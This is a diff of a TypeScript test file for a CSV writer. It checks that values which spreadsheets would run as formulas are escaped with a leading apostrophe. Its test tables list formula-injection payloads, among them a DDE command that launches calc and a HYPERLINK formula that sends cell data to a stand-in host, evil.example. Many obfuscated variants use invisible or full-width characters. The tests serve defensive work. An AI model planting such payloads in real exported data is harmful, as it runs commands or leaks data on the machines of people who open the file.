@@ -3,55 +3,20 @@ import { describe, expect, it } from 'vitest';
 import { unguarded } from '../../src/files/csv-guard.ts';
 import { memberLayout } from '../../src/output/columns.ts';
 import { csvCell, csvHeader } from '../../src/output/csv.ts';
-import { createWriter } from '../../src/output/writer.ts';
-import { gatheringSink } from './gathering-sink.ts';
+import { written } from './gathering-sink.ts';
 
 const cell = (value: unknown) => csvCell(JSON.stringify(value), false);
 
 describe('cells that a spreadsheet would run', () => {
   it.each([
-    ['equals', '=1+1'],
-    ['plus', '+1'],
-    ['minus', '-1'],
-    ['at', '@SUM(A1)'],
-    ['pipe', '|calc'],
-    ['command', "=cmd|' /C calc'!A0"],
-    ['link', '=HYPERLINK("https://evil.example?x="&A1,"click")'],
-    ['minus and text', '-2+3+cmd|x'],
-    ['at handle', '@handle'],
-    ['space first', ' =1'],
-    ['spaces first', '   +1'],
-    ['tab alone', '\ttext'],
-    ['return alone', '\rtext'],
-    ['no-break space', '\u00a0=1'],
-    ['ideographic space', '\u3000=1'],
-    ['byte order mark', '\ufeff=1'],
-    ['zero-width space', '\u200b=1'],
-    ['zero-width joiner', '\u200d=1'],
-    ['zero-width non-joiner', '\u200c-1'],
-    ['word joiner', '\u2060@x'],
-    ['mongolian separator', '\u180e=1'],
-    ['soft hyphen', '\u00ad=1'],
-    ['line separator', '\u2028=1'],
-    ['combining mark', '\u0301=1'],
-    ['hangul filler', '\u3164=1'],
-    ['tag', '\u{e0041}=1'],
-    ['variation selector', '\ufe0f=1'],
-    ['several of them', '\ufeff \u200b\u2060=1'],
-    ['full-width equals', '＝1'],
-    ['full-width plus', '＋1'],
-    ['full-width minus', '－1'],
-    ['full-width at', '＠x'],
-    ['full-width after space', '\u3000＝1'],
-    ['small equals', '﹦1'],
-    ['minus sign', '−1'],
-    ['phone with spaces', '+49 30 1234567'],
-    ['phone too short', '+12345'],
-    ['phone too long', '+1234567890123456'],
-    ['phone with zero', '+0123456789'],
-    ['phone and more', '+4930123456 =1'],
-    ['phone as a sum', '+4930123456+1'],
-  ])('%s', (_name, text) => expect(cell(text)).toBe(`'${text}`));
+    ...['=1+1', '+1', '-1', '@SUM(A1)', '|calc', "=cmd|' /C calc'!A0"],
+    ...['=HYPERLINK("https://evil.example?x="&A1,"click")', '-2+3+cmd|x', '@handle', ' =1', '   +1'],
+    ...['\ttext', '\rtext', '\u00a0=1', '\u3000=1', '\ufeff=1', '\u200b=1', '\u200d=1', '\u200c-1'],
+    ...['\u2060@x', '\u180e=1', '\u00ad=1', '\u2028=1', '\u0301=1', '\u3164=1', '\u{e0041}=1'],
+    ...['\ufe0f=1', '\ufeff \u200b\u2060=1', '＝1', '＋1', '－1', '＠x', '\u3000＝1', '﹦1', '−1'],
+    ...['+49 30 1234567', '+12345', '+1234567890123456', '+0123456789', '+4930123456 =1'],
+    ...['+4930123456+1'],
+  ])('%j', (text) => expect(cell(text)).toBe(`'${text}`));
 
   it.each([
     ['NUL before', '\0=1', "'=1"],
@@ -191,10 +156,8 @@ it.each([
   const value = fc.oneof(evil, fc.array(evil, { maxLength: 3 }));
   await fc.assert(
     fc.asyncProperty(value, value, value, async (a, b, c) => {
-      const sink = gatheringSink();
-      const writer = await createWriter('csv', sink, { layout, shape: 'list' });
-      await writer.write([JSON.stringify({ a, b, c })]);
-      const [, ...lines] = sink.text.split('\r\n');
+      const { text } = await written('csv', { layout, shape: 'list' }, [JSON.stringify({ a, b, c })]);
+      const [, ...lines] = text.split('\r\n');
       for (const field of fieldsOf(lines.join('\r\n'), delimiters, knowsQuotes)) {
         const begins = field.replace(/^[\s\p{C}\p{M}\p{Default_Ignorable_Code_Point}]+/u, '');
         expect(/^\+[1-9]\d{6,14}(?:,|$)/.test(begins) || !/^[=+\-@|]/.test(begins), field).toBe(true);
